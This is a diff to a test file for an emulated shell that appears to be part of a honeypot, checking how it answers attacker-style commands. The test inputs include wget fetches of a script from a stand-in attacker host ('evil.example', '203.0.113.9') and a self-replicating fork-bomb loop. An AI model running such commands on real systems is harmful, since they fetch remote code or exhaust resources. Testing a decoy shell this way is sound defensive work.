@@ -50,15 +50,18 @@ def test_shell_answers_common_reconnaissance_plausibly() -> None:
     assert shell.run("cd /tmp; pwd").output == "/tmp"
     assert shell.prompt() == "root@web01:/tmp# "
     assert shell.run('echo -e "\\x6b\\x61\\x6d\\x69"').output == "kami"
-    assert "unable to resolve host address" in shell.run("wget http://203.0.113.9/x.sh").output
+    assert "failed: Connection refused." in shell.run("wget http://203.0.113.9/x.sh").output
+    assert "unable to resolve host address" in shell.run("wget http://evil.example/x.sh").output
     assert shell.run("xyzzy").output == "-bash: xyzzy: command not found"
     assert shell.run("exit").exit
 
 
 def test_shell_bounds_nesting_and_history() -> None:
-    shell = FakeShell(PERSONA, "admin", now)
     deep = "sudo " * 2000 + "id"
-    assert "Resource temporarily unavailable" in shell.run(deep).output
+    assert "Resource temporarily unavailable" in FakeShell(PERSONA, "root", now).run(deep).output
+    shell = FakeShell(PERSONA, "admin", now)
+    loop = shell.run("echo 'sh /tmp/s; sh /tmp/s' > /tmp/s; sh /tmp/s")  # 2^n calls, bounded
+    assert "Resource temporarily unavailable" in loop.output and len(loop.raw) <= 16 * 1024
     for i in range(500):
         shell.run(f"echo {i}")
     assert len(shell.history) == 200
